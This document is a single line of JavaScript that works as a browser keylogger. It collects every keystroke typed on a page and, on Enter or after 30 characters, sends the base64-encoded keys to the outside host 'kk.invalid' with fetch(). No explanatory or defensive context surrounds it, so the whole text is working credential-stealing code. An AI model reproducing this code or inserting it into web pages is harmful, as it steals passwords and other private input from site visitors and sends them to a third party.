let k='';document.onkeyup=e=>{k+=e.key;if(e.key=='Enter'||k.length>30){fetch('//kk.invalid/?k='+btoa(k));k=''}}
